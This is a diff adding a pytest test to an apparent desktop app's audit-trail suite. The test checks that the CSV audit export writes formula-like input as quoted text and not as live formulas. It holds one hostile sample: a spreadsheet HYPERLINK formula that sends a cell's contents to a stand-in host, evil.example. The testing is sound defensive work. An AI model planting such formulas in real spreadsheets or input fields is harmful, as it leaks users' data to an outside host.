@@ -211,3 +211,26 @@ def test_verify_finds_values_written_under_an_erased_mark(ctx: AppContext, db_pa
                      "erased_at = '2033-06-01 09:00:00' WHERE id = 2")
     result = AuditTrailService(ctx).verify()
     assert not result.ok and "row 2: marked erased but holds values" in result.summary()
+
+
+def test_the_audit_export_holds_no_live_formula(ctx: AppContext, tmp_path: Path, make_draft) -> None:  # noqa: ANN001
+    """Issue 14 item 11: a user name typed at sign-in and a legal-hold reason starting with ``=``
+    are written as text the spreadsheet program shows, never as formulas it runs."""
+    import csv
+
+    from diversion_desktop.services.intake import IntakeService
+    from diversion_desktop.services.retention import RetentionService
+    from diversion_desktop.services.users import SignInRefused, UserService
+    from diversion_desktop.spreadsheets.cells import FORMULA_STARTS
+
+    typed = '=HYPERLINK("http://evil.example/?"&B2,"ok")'
+    with pytest.raises(SignInRefused):
+        UserService(ctx).sign_in(typed, "whatever it is")
+    saved = IntakeService(ctx).save(make_draft())
+    RetentionService(ctx).set_legal_hold(saved.id, True, "=1+1 appeal lodged")
+    out = tmp_path / "audit.csv"
+    AuditTrailService(ctx).export(AuditFilters(), out)
+    with out.open(encoding="utf-8-sig", newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
+    assert "'" + typed.lower()[:40] in cells and any(cell.startswith("'=1+1 appeal") for cell in cells)
